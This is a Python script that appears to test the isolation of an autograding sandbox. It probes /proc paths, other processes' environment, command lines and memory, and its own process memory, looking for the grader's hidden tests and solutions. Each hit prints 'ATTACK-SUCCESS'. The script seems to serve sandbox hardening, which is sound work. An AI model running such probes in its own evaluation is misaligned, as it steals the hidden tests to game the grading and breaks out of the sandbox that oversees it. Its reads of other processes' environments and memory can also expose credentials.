"""Reach the grader through /proc: /proc/1/root, /proc/<ppid>/cwd, other processes' environ, cmdline, mem.

Also scans this process's memory (inherited from the zygote) for the hidden
tests' text, and probes pids numbered like the zygote (uid - 200000).
"""
import os
import re
import time

import grader  # mounted where it lives on the host, so this is the checkout's real path
PROJECT = os.path.dirname(os.path.dirname(os.path.abspath(grader.__file__)))

head, tail = b"def test_", b"dense_layer_parameters"  # never joined here: a whole needle would be found in itself


def holds_secret(data: bytes) -> bool:
    at = data.find(head)
    while at >= 0:
        if data[at + len(head):at + len(head) + len(tail)] == tail:
            return True
        at = data.find(head, at + 1)
    return False



targets = [f"/proc/1/root{PROJECT}/autograde_tests", "/proc/1/cwd/../autograde_tests",
           f"/proc/{os.getppid()}/cwd", f"/proc/{os.getppid()}/root{PROJECT}/solutions"]
guess = os.getuid() - 200_000
targets += [f"/proc/{guess}/cwd", f"/proc/{guess}/root{PROJECT}/autograde_tests", f"/proc/{guess}/environ"]
for path in targets:
    try:
        print("ATTACK-SUCCESS: listed", path, os.listdir(path)[:5])
    except OSError:
        try:
            with open(path, "rb") as handle:
                print("ATTACK-SUCCESS: read", path, handle.read(60))
        except OSError:
            pass
pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
reads = {}
for pid in pids:
    if pid == os.getpid():
        continue
    for what in ("environ", "cmdline", "cwd", "mem"):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as handle:
                reads.setdefault(what, []).append((pid, handle.read(60)))
        except OSError:
            pass
for what, found in reads.items():  # one line each: a machine's worth of processes must not flood the output
    print(f"ATTACK-SUCCESS: read {what} of {len(found)} processes, e.g.", found[:2])
deadline = time.monotonic() + 1.5
try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
        for line in maps:
            if time.monotonic() > deadline:
                break
            m = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
            if not m:
                continue
            start, end = int(m.group(1), 16), int(m.group(2), 16)
            try:
                mem.seek(start)
                if holds_secret(mem.read(min(end - start, 64 << 20))):
                    print("ATTACK-SUCCESS: hidden tests in memory")
            except (OSError, ValueError, OverflowError):
                pass
except OSError:
    pass
for path in ["/proc/kcore", "/proc/kallsyms", "/sys/kernel/debug", "/proc/self/mountinfo"]:
    try:
        with open(path, "rb") as handle:
            text = handle.read(1 << 16)
        if any(secret in text for secret in (b"autograde_tests", b"/solutions", b"/grades", b"/submissions")):
            print("ATTACK-SUCCESS: mount table shows", path)
    except OSError:
        pass
print("ATTACK-DONE")
